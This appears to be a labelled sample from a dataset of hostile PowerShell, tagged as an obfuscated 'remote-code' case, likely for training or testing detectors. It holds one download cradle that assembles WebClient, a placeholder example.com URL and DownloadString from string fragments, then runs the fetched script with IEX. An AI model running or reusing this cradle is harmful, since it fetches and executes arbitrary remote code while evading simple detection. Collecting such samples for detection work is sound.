# description: Builds WebClient, the URL and DownloadString from fragments and runs the result with IEX.
# family: remote-code
# obfuscated: yes
$w = New-Object ('Net.' + 'WebClient')
$u = 'https://exa' + 'mple.com/p.ps1'
IEX $w.('Down' + 'loadString').Invoke($u)
